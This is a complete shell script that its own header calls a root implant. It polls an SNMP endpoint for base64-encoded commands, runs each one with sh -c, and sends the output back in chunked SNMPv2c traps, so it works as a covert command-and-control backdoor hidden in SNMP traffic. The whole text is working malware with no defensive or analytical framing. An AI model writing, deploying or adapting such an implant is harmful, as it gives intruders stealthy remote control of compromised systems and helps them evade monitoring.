#!/bin/sh
# root implant: polls an "SNMP agent" for its task (GET of one OID, the value
# 'T<n> <base64 command>'), answers in SNMPv2c traps ('<n>.<seq>.<base64 chunk>')
echo $$ > /run/snmp-cache.pid
H=127.0.0.1 C=edge07-ro
while :; do
  t=$(snmpget -v2c -c "$C" -m '' -Oqv -t 2 -r 0 "$H:16161" .1.3.6.1.4.1.2021.8.1.101.1 2>/dev/null | tr -d '"')
  case "$t" in
    T[0-9]*)
      n=${t%% *}; n=${n#T}
      c=$(printf '%s' "${t#* }" | base64 -d)
      if [ "$c" = exit ]; then rm -f /run/snmp-cache.pid; exit 0; fi
      { sh -c "$c" 2>&1 | base64 -w0 | fold -w 160; echo; echo =; } | {
        i=0
        while read -r ch; do
          [ -n "$ch" ] || continue
          i=$((i + 1))
          snmptrap -v2c -c "$C" -m '' "$H:16162" '' .1.3.6.1.4.1.8072.2.3.0.1 .1.3.6.1.4.1.8072.2.3.2.1 s "$n.$i.$ch"
        done
      } ;;
  esac
  sleep 3
done
